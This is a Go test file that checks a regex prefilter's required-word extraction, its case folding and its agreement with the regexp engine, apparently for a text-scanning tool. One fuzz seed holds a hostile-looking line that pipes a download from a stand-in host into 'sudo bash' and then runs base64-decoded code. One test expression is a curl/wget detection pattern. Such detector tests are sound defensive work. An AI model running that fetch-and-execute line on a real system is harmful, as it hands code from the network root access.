package collect

import (
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

func TestRequiredWords(t *testing.T) {
	for expr, want := range map[string]string{
		`load_dataset\(|WebDataset\(`:  "load_dataset( webdataset(",
		`(?i)\b(?:curl|wget)\b[^\n]*`:  "curl wget",
		`\b(value_and_grad|grad)\(`:    "value_and_grad grad",
		`(ab)+x?`:                      "ab",
		`(?:abc){2,}|d`:                "",
		`a*`:                           "",
		`(?m)^\s*(for|while)\b`:        "for while",
		`[xy]long|short[xy]`:           "long short",
		`\w+_(update|step)\(`:          "update step",
		`(?:one|tw[oa]|th)three\.four`: "three.four",
	} {
		tree, err := syntax.Parse(expr, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Join(required(tree.Simplify()), " "); got != want {
			t.Errorf("%s: %q, not %q", expr, got, want)
		}
	}
}

// Letters that are another case of a letter of ASCII, and no letter of ASCII,
// do not get a match past the words.
func TestPatternFoldsAsTheExpressionDoes(t *testing.T) {
	p := newPattern(`(?i)kiss me`)
	for _, text := range []string{"KISS ME", "\u212aiss me", "ki\u017fs me", "kiss m\xffe", "", "\xff kiss me"} {
		if got, want := p.match(lower([]byte(text))), p.re.MatchString(text); got != want {
			t.Errorf("%q: %t, not %t", text, got, want)
		}
	}
}

func allPatterns() []*pattern {
	all := slices.Concat(fetches, []*pattern{holdsNumbers})
	for _, j := range jobs {
		all = append(all, j.trace)
		for _, set := range j.marks {
			all = append(all, set...)
		}
	}
	return all
}

// FuzzPattern holds what is searched for first against the expression itself.
func FuzzPattern(f *testing.F) {
	f.Add("for x in data:\n  optimizer.step()\n  json.dumps(x)\n")
	f.Add("CURL https://x.example/i | sudo bash -s\nexec(base64.b64decode(x))")
	f.Fuzz(func(t *testing.T, text string) {
		said := lower([]byte(text))
		for _, p := range allPatterns() {
			if got, want := p.match(said), p.re.MatchString(text); got != want {
				t.Fatalf("%s: %t, not %t", p.re, got, want)
			}
		}
	})
}
